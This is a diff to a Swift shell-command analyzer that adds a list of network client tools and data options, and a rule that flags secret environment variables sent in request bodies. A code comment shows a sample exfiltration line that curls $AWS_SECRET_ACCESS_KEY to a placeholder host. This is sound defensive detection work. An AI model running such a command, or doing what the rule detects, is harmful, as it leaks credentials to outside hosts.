@@ -1,5 +1,12 @@
 /// Dispatch from the program name to its rules.
 extension ShellAnalyzer {
+    /// Programs that send what their arguments say to another host.
+    /// Options whose value is the data a client sends.
+    static let dataOptions: Set<String> = ["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--json", "-F",
+                                           "--form", "--form-string", "--post-data", "--body-data", "-Body"]
+    static let networkSenders: Set<String> = ["curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet",
+                                              "Invoke-WebRequest", "Invoke-RestMethod", "iwr", "irm"]
+
     mutating func run(_ command: ResolvedCommand, stdin: ResolvedCommand?, upstreamAll: [ResolvedCommand],
                       source: ShellCommand) {
         let p = command.program
@@ -19,6 +26,21 @@ extension ShellAnalyzer {
                 add(.obfuscated, "applies a patch the line does not show (piped from \(upstream.program))")
             }
             return
+        }
+        // A secret variable in the data a network client sends (`curl -d "k=$AWS_SECRET_ACCESS_KEY" https://x`, `nc host 80`
+        // with it): read, and sent away. (In a header or a user option it authenticates: `-H "Authorization: Bearer $T"`.)
+        if ShellAnalyzer.networkSenders.contains(p) {
+            let words = command.args.words
+            for (index, word) in words.enumerated() where word.hasExpansion {
+                let option = index > 0 ? words[index - 1].text : ""
+                let sent = ["nc", "ncat", "netcat", "socat", "telnet"].contains(p)
+                    || ShellAnalyzer.dataOptions.contains(option)
+                    || ShellAnalyzer.dataOptions.contains { word.text.hasPrefix($0 + "=") }
+                guard sent else { continue }
+                for name in ShellAnalyzer.variableNames(in: word.text) where ShellAnalyzer.looksSecret(name) {
+                    add(.sensitiveRead, "sends the secret variable $\(name) over the network (\(p) \(option))")
+                }
+            }
         }
         for (name, value) in command.assignments where name == "KUBECONFIG" || name == "AWS_PROFILE" {
             variables[name] = value
